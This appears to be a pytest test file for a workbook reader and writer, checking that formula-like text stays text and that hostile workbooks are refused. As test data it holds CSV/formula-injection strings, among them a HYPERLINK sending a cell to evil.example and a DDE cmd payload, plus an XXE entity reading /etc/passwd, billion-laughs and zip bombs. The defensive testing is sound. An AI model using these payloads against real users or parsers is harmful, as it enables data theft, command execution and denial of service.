"""Workbooks: what is written stays text; what others wrote is bounded, never computed, never followed."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from packtrace.trace.workbook.reading import MAX_BYTES, MAX_ROWS, Cell, WorkbookError, read_workbook
from packtrace.trace.workbook.writing import Head, Sheet, write_workbook

AT = datetime(2026, 11, 23, 4, 40, tzinfo=UTC)
CODE = "04QPB76836300JBC40000903"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "=",
    "{=1}",
)


def workbook(*rows: list[Any], change: Callable[[Any], None] | None = None) -> bytes:
    """A workbook as a person has it."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    if change:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def repacked(data: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    """The same zip with other parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in more.items():
            new.writestr(name, part)
    return out.getvalue()


def texts(data: bytes) -> list[list[str | None]]:
    return [[cell and cell.text for cell in cells] for _, cells in read_workbook(data).rows]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_looks_like_a_formula_is_written_as_text(text: str) -> None:
    data = write_workbook([Sheet("a", (Head((text,)),), [[text]], above=((text,),))], AT)
    for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows():
        for cell in row:
            assert (cell.data_type, cell.number_format) == ("s", "@")
            assert cell.quotePrefix or not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@given(st.lists(st.lists(st.one_of(st.none(), st.text(max_size=40)), max_size=6), max_size=6))
def test_texts_are_read_as_they_were_written(rows: list[list[str | None]]) -> None:
    read = dict(read_workbook(write_workbook([Sheet("a", (), rows)], AT)).rows)
    for number, row in enumerate(rows, 1):
        for at, text in enumerate(row):
            cells = read.get(number, ())
            cell = cells[at] if at < len(cells) else None
            if not text:
                assert cell is None
            elif text.isprintable():
                assert cell == Cell("text", text)
            else:
                assert cell is None or cell.kind == "text"


def test_a_cell_says_what_a_spreadsheet_made_of_it() -> None:
    data = workbook(
        [CODE, 1.23e23, 4277, 438.5, True, AT.replace(tzinfo=None)],
        ["=1+1", '=HYPERLINK("http://evil.example")', "#N/A", None, " "],
    )
    (_, first), (_, second) = read_workbook(data).rows
    assert first == (
        Cell("text", CODE),
        Cell("number", "1.23E+23"),
        Cell("number", "4277"),
        Cell("number", "438.5"),
        Cell("flag", "true"),
        Cell("time", "2026-11-23T04:40:00"),
    )
    assert second == (
        Cell("formula", ""),
        Cell("formula", ""),
        Cell("error", "#N/A"),
        None,
        Cell("text", " "),
    )


def test_the_value_that_a_formula_last_had_is_not_taken() -> None:
    data = repacked(
        workbook(["=1+1"]),
        lambda name, part: (
            part.replace(b"<v></v>", b"<v>04Q</v>").replace(b"<v />", b"<v>04Q</v>")
            if name.endswith("sheet1.xml")
            else part
        ),
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<v>04Q</v>" in archive.read("xl/worksheets/sheet1.xml")
    assert texts(data) == [[""]]


def test_hidden_sheets_are_not_read_but_named() -> None:
    def hide(book: Any) -> None:
        book.create_sheet("shown").append([CODE])
        book.worksheets[0].sheet_state = "veryHidden"
        book.create_sheet("further").append(["x"])

    grid = read_workbook(workbook(["hidden"], change=hide))
    assert (grid.sheet, grid.left_out) == ("shown", ("Sheet", "further"))
    assert [cells[0] and cells[0].text for _, cells in grid.rows] == [CODE]


def test_links_to_other_workbooks_are_never_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.socket", None)  # whoever opened one would fail
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="http://evil.example/book.xlsx" TargetMode="External"/></Relationships>'
    )
    data = repacked(
        workbook(["[1]Sheet!A1", "='http://evil.example/[book.xlsx]Sheet'!A1"]),
        lambda _, part: part,
        **{"xl/externalLinks/_rels/externalLink1.xml.rels": link},
    )
    assert texts(data) == [["[1]Sheet!A1", ""]]


def billion(name: str, part: bytes) -> bytes:
    """Entities that grow."""
    if not name.endswith("sheet1.xml"):
        return part
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    head, _, rest = part.decode().partition("?>")
    return f"{head}?><!DOCTYPE w [{lines}]>{rest}".encode()


def outside(name: str, part: bytes) -> bytes:
    """An entity of a file of the machine, in the other encoding."""
    if not name.endswith("workbook.xml"):
        return part
    text = part.decode().partition("?>")[2] or part.decode()
    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>{text}'.encode("utf-16")


def zeros(name: str, part: bytes) -> bytes:
    """Bytes that pack a thousand to one."""
    return b" " * (40 << 20) if name == "docProps/app.xml" else part


def styles(name: str, part: bytes) -> bytes:
    """More styles than memory has room for."""
    many = b"<xf/>" * 300_000
    return part.replace(b"</cellXfs>", many + b"</cellXfs>") if name == "xl/styles.xml" else part


@pytest.mark.parametrize("bomb", [billion, outside, zeros, styles])
def test_what_grows_when_it_is_read_is_refused_before(bomb: Callable[[str, bytes], bytes]) -> None:
    with pytest.raises(WorkbookError):
        read_workbook(repacked(workbook([CODE]), bomb))


def test_a_million_rows_are_refused() -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 100_001))
    many = repacked(
        workbook([CODE]),
        lambda name, part: (
            b"<worksheet xmlns="
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + rows
            + b"</sheetData></worksheet>"
            if name.endswith("sheet1.xml")
            else part
        ),
    )
    with pytest.raises(WorkbookError):
        read_workbook(many)

    def far(book: Any) -> None:
        book.active["A1048576"] = "x"

    with pytest.raises(WorkbookError, match="rows"):
        read_workbook(workbook([CODE], change=far))
    assert len(read_workbook(workbook(*([["x"]] * MAX_ROWS))).rows) == MAX_ROWS
    with pytest.raises(WorkbookError, match="rows"):
        read_workbook(workbook(*([["x"]] * (MAX_ROWS + 1))))


@pytest.mark.parametrize(
    "row", [["x"] * 61, ["x" * 2_001], [None] * 200 + ["x"]], ids=["wide", "long", "far to the right"]
)
def test_a_row_that_is_too_much_is_refused_with_its_number(row: list[Any]) -> None:
    with pytest.raises(WorkbookError) as refused:
        read_workbook(workbook([CODE], row))
    assert refused.value.where == "row 2"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK\x05\x06" + bytes(18),
        b"not a zip",
        b"\0" * (MAX_BYTES + 1),
        repacked(workbook([CODE]), lambda name, part: b"<x" if name.endswith("sheet1.xml") else part),
        repacked(workbook([CODE]), lambda name, part: b"" if name == "xl/workbook.xml" else part),
        repacked(workbook([CODE]), lambda _, part: part, **{f"p{n}": b"" for n in range(300)}),
        workbook([CODE])[:-40],
    ],
    ids=range(8),
)
def test_what_is_no_workbook_is_told_so(data: bytes) -> None:
    with pytest.raises(WorkbookError) as refused:
        read_workbook(data)
    assert "expected" in refused.value.message


@cache
def whole() -> bytes:
    """One for all examples: the time at which it is written stands in it."""
    return workbook([CODE, 1, "x"])


@given(st.data())
def test_a_damaged_workbook_is_read_or_refused(data: st.DataObject) -> None:
    good = bytearray(whole())
    for _ in range(data.draw(st.integers(1, 8))):
        good[data.draw(st.integers(0, len(good) - 1))] = data.draw(st.integers(0, 255))
    try:
        read_workbook(bytes(good))
    except WorkbookError:
        pass
